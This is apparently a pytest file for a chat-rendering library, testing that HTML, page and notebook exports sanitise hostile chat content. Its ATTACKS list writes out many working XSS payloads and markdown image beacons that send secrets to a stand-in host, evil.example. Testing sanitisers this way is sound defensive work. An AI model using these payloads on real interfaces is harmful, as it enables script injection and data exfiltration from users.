"""K6: whatever was said, what a browser or a notebook gets has no element, attribute or address but chatkit's own."""

from __future__ import annotations

import json
import re

import nbformat
import pytest
from markdown_it import MarkdownIt

from chatkit._render.export import render_export
from chatkit._render.harmless import harmless
from chatkit._render.html import contents_html
from chatkit._render.markup import LIMIT, markdown_to_html
from chatkit._turns.contents import ContentText

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "</details></summary><iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x\ny]\n\n[x\ny]:\njavascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "![beacon](https://evil.example/steal?secret)",
    "![beacon][b]\n\n[b]: https://evil.example/steal",
    '![x](https://e.example/" onerror="alert(1))',
    "[![x](https://e.example/a.png)](https://e.example/)",
    "\\![x](https://e.example/a.png)",
    '[x](https://e.example "onmouseover=alert(1) \\" onclick=alert(2)")',
    "<style>@import url(https://evil.example/x.css);</style>",
    "<div style='background:url(https://evil.example)'>",
    "<!-- --><form action=https://evil.example><input name=a></form><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE x>",
    '```" onmouseover=alert(1) x="\ncode\n```',
    "```\n```\n<script>alert(1)</script>\n```",
    " ```\n```\n<script>alert(1)</script>",
    "~~~\n```\n~~~\n<script>alert(1)</script>\n```",
    "`` ` <script>alert(1)</script> `` `<b>`",
    "\\`<script>alert(1)</script>`",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "|<script>|\n|-|\n|<img src=x>|",
    "$$<script>alert(1)</script>$$ \\\\[<script>alert(1)</script>\\\\]",
    "<scr\0ipt>alert(1)</scr\0ipt>\x1b[2J\u202e\u2028<b>",
    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_k6_nothing_foreign_is_in_the_html(attack, everywhere, read):
    reader = read(contents_html(everywhere(attack)))
    assert {"section", "details", "summary", "code"} <= {tag for tag, _ in reader.seen}


@pytest.mark.parametrize("attack", ATTACKS)
def test_k6_nothing_foreign_is_in_the_page(attack, everywhere, read):
    reader = read(render_export(".html", everywhere(attack), title=attack), page=True)
    once = ["html", "head", "title", "style", "body", "header", "main"]
    assert [tag for tag, _ in reader.seen if tag in once] == once
    assert sum(tag == "meta" for tag, _ in reader.seen) == 5


@pytest.mark.parametrize("attack", ATTACKS)
def test_k6_nothing_foreign_is_in_the_notebook(attack, everywhere, read):
    book = nbformat.from_dict(json.loads(render_export(".ipynb", everywhere(attack), title=attack)))
    nbformat.validate(book)
    obedient = MarkdownIt("commonmark", {"html": True}).enable("table")
    obedient.validateLink = lambda url: True
    for cell in book.cells:
        assert cell.cell_type == "markdown"
        html = obedient.render("".join(cell.source))
        read(re.sub(' style="text-align:(left|right|center)"', "", html))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_still_legible(attack, read):
    shown = "".join(read(contents_html(ContentText(f"Before\n\n    {attack}"))).words)
    assert attack.split("\n")[0].replace("\0", "\ufffd") in shown


PIECES = ["*", "`", "[", "![", "<", "> ", "- ", " ", "\x1b", "a*_", "[a](", "](", "|a", "\n", "```\n", "`a``b```c"]


@pytest.mark.parametrize("piece", PIECES)
@pytest.mark.parametrize("size", [2**20, LIMIT])
def test_hostile_text_of_any_size_is_finished(piece, size, read):
    text = piece * (size // len(piece))
    read(markdown_to_html(text))
    assert len(harmless(text)) < 10 * size


def test_text_above_the_limit_stands_as_it_was_written(read):
    text = "**a** <b>\n" * (LIMIT // 8)
    assert "".join(read(markdown_to_html(text)).words) == text
    assert harmless(text) == f"```\n{text}```"


@pytest.mark.parametrize("text", ["> " * 100 + "deep", "".join(f"{'  ' * n}- item {n}\n" for n in range(60))])
def test_text_nested_too_deeply_is_shown_whole(text, read):
    shown = "".join(read(markdown_to_html(text)).words)
    assert shown == text
    assert text in harmless(text)
